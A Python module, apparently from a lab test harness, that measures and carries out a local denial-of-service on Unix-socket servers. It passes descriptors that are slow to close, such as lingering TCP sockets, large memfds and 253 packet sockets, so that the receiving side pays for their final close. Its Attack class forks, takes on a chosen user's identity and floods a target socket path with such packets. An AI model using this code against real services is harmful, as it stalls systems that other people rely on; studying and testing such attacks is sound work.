# SPDX-License-Identifier: ISC
"""Descriptors whose last close takes long, and who leaves them to others.

Whoever closes the last copy of a descriptor pays for it. One that is sent in a
packet has its last copy in the packet when the sender has closed its own: then
who drops the packet pays, or who takes the descriptor out and closes it.
"""

import contextlib
import os
import resource
import socket
import struct
import time
from dataclasses import dataclass
from typing import Callable

LINGER = 60         # seconds
MEMORY = 1 << 30    # at most
# SCM_MAX_FD of the kernel: more do not go into one packet.
FDS_MAX = 253


def lingering(seconds=LINGER):
    """A TCP socket whose data nobody reads: close(2) sleeps until it is sent,
    O_NONBLOCK or not. And the other end: the sleep is over when that closes."""
    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        client = socket.socket()
        client.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
        client.connect(listener.getsockname())
        other, _ = listener.accept()
    client.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while True:
            client.send(bytes(4096))
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                      struct.pack("=ii", 1, seconds))
    return client.detach(), other


def memory_size():
    """What there is room for: the lab VM is small."""
    with open("/proc/meminfo", encoding="ascii") as file:
        free = next(int(line.split()[1]) for line in file
                    if line.startswith("MemAvailable:"))
    return min(MEMORY, free * 1024 // 4)


def memory():
    """A memfd whose pages are there: close(2) gives them back."""
    fd = os.memfd_create("slow")
    os.posix_fallocate(fd, 0, memory_size())
    return fd, None


def packet_socket():
    """close(2) waits until no processor is at work with it (RCU): 253 of them
    are seconds that no signal ends. A user makes them in a namespace."""
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).detach(), None


@dataclass
class Load:
    """What is in a packet."""
    name: str
    make: Callable
    count: int = 1


LINGERS = Load("a lingering socket", lingering)
LINGERS_MANY = Load("253 lingering sockets", lingering, FDS_MAX)
MEMFD = Load("a memfd", memory)
PACKETS = Load("253 packet sockets", packet_socket, FDS_MAX)


def make(load):
    """Its descriptors, and what must stay open beside them."""
    made = [load.make() for _ in range(load.count)]
    return [fd for fd, _ in made], [other for _, other in made]


def leave(sock, data, fds, others=()):
    """Only the packet has them now. Whether it was let in; if not, they end
    with what is beside them, and cost us nothing."""
    try:
        socket.send_fds(sock, [data], fds)
        sent = True
    except OSError:
        sent = False
        for other in filter(None, others):
            other.close()
    for fd in fds:
        os.close(fd)
    return sent


def price(load, *arguments):
    """What it costs to drop such a packet: seconds by the wall's clock, and of
    a processor."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    made = [load.make(*arguments) for _ in range(load.count)]
    leave(ours, b"x", [fd for fd, _ in made])
    ours.close()
    wall, processor = time.monotonic(), time.thread_time()
    theirs.close()
    return time.monotonic() - wall, time.thread_time() - processor


@dataclass
class Caller:
    """Who connects."""
    name: str
    uid: int
    gid: int
    groups: tuple = ()

    def become(self):
        os.setgroups(self.groups)
        os.setresgid(*[self.gid] * 3)
        os.setresuid(*[self.uid] * 3)


class Attack:
    """A process of the caller's that is about to connect and to leave a packet
    behind on each of its connections. Nothing lingers when it has ended.

    early: it has connected before all else.
    """

    def __init__(self, host, path, caller, load, data, *, connections=1,
                 early=False):
        self.ours, theirs = socket.socketpair(socket.AF_UNIX,
                                              socket.SOCK_SEQPACKET)
        self.child = os.fork()
        if self.child == 0:
            try:
                self.ours.close()
                host.enter()
                self._serve(theirs, path, caller, [load] * connections, data,
                            early)
            finally:
                os._exit(0)
        theirs.close()
        self.ours.settimeout(20)
        self._hear()

    def _hear(self):
        answer = self.ours.recv(16)
        assert answer, "the attacker has ended"
        return int(answer)

    @staticmethod
    def _connect(path):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        sock.setblocking(False)
        with contextlib.suppress(OSError):
            sock.connect(path)
        return sock

    def _serve(self, channel, path, caller, loads, data, early):
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        made = [make(load) for load in loads]
        caller.become()
        socks = [self._connect(path) for _ in loads] if early else []
        channel.send(b"0")
        channel.recv(1)
        sent = 0
        socks += [self._connect(path) for _ in loads[len(socks):]]
        for sock, (fds, others) in zip(socks, made):
            sent += leave(sock, data, fds, others)
            sock.close()
        channel.send(b"%d" % sent)
        channel.recv(1)

    def go(self):
        """How many packets were let in."""
        self.ours.send(b"g")
        return self._hear()

    def close(self):
        # Said, for who was forked after it has our end too.
        self.ours.send(b"e")
        self.ours.close()
        os.waitpid(self.child, 0)
